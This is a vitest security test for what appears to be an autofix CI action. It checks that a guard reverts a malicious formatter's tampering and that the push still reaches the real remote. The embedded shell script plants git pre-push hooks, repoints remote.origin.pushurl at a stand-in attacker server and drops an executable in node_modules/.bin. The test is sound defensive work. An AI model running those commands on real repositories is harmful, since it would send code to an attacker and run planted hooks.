/**
 * Item 3: git state the fixers cannot subvert. The head's own black, run as a fixer, plants a
 * pre-push hook, points `remote.origin.pushurl` at an attacker's server, writes a git-ignored
 * tool and makes a tracked file executable. The guard must reject and undo all of it, the push
 * must go to the URL read before any fixer ran, no hook may run, and the attacker's server must
 * see nothing. A canary file next to the workspace shows the run wrote nothing outside it.
 */
import { existsSync, statSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runAction, type Scenario } from '../../standin/scenario.js';
import { plantRepositoryTools, securityScenario, startRecorder, type Planted } from './helpers.js';

const cleanup: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (cleanup.length > 0) await cleanup.pop()?.();
});

describe('git state the fixers cannot subvert', () => {
  it('rejects and undoes changes to .git/config, .git/hooks, ignored files and modes; the push goes where it was meant to', async () => {
    const s: Scenario & Planted = await securityScenario();
    cleanup.push(() => s.close());
    const attacker = await startRecorder();
    cleanup.push(() => attacker.close());
    const hookMarker = path.join(s.dumps, 'hook-ran');
    const canary = path.join(path.dirname(s.workspace), 'canary.txt');
    await writeFile(canary, 'canary\n');
    const hook = `#!/bin/sh\ntouch "${hookMarker}"\n`;
    const evil = [
      'if [ ! -e .git/hooks/pre-push ]; then',
      `  printf '%s' '${hook}' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push`,
      `  printf '%s' '${hook}' > .git/hooks/reference-transaction; chmod +x .git/hooks/reference-transaction`,
      `  /usr/bin/git config remote.origin.pushurl "${attacker.url}/stolen.git"`,
      `  /usr/bin/git config core.hooksPath .git/hooks`,
      '  mkdir -p node_modules/.bin && echo planted > node_modules/.bin/evil',
      '  chmod +x app/config.py',
      'fi',
    ].join('\n');
    await plantRepositoryTools(s.workspace, s.dumps, evil);
    const configBefore = await readFile(path.join(s.workspace, '.git', 'config'), 'utf8');

    const run = await runAction(s, { 'fix-types': 'format', push: 'branch' });
    expect(run.exitCode, run.stdout + run.stderr).toBe(0);

    const report = JSON.parse(await readFile(run.outputs['report-path'] ?? '', 'utf8')) as {
      fixes: { fixer: string; status: string; reason?: string }[];
    };
    const black = report.fixes.find((fix) => fix.fixer === 'black');
    expect(black?.status).toBe('reverted-guard');
    expect(black?.reason).toContain('".git/config"');
    expect(black?.reason).toContain('".git/hooks/pre-push"');
    expect(black?.reason).toContain('"node_modules/.bin/evil"');
    expect(black?.reason).toContain('changed the mode of "app/config.py"');
    // Undone: the config as actions/checkout left it, no hook, no planted tool, the old mode.
    expect(await readFile(path.join(s.workspace, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(existsSync(path.join(s.workspace, '.git', 'hooks', 'pre-push'))).toBe(false);
    expect(existsSync(path.join(s.workspace, 'node_modules', '.bin', 'evil'))).toBe(false);
    expect(statSync(path.join(s.workspace, 'app', 'config.py')).mode & 0o111).toBe(0);

    // prettier's fix is verified and pushed, to the real remote, with no hook run.
    expect(report.fixes.find((fix) => fix.fixer === 'prettier')?.status).toBe('verified');
    expect(run.outputs.branch).toBe(`autofix/${s.headBranch}`);
    expect(Object.keys(await s.gitServer.branches(s.owner, s.repo))).toContain(`autofix/${s.headBranch}`);
    expect(existsSync(hookMarker)).toBe(false);
    expect(attacker.requests).toEqual([]);
    expect(await readFile(canary, 'utf8')).toBe('canary\n');
  });
});
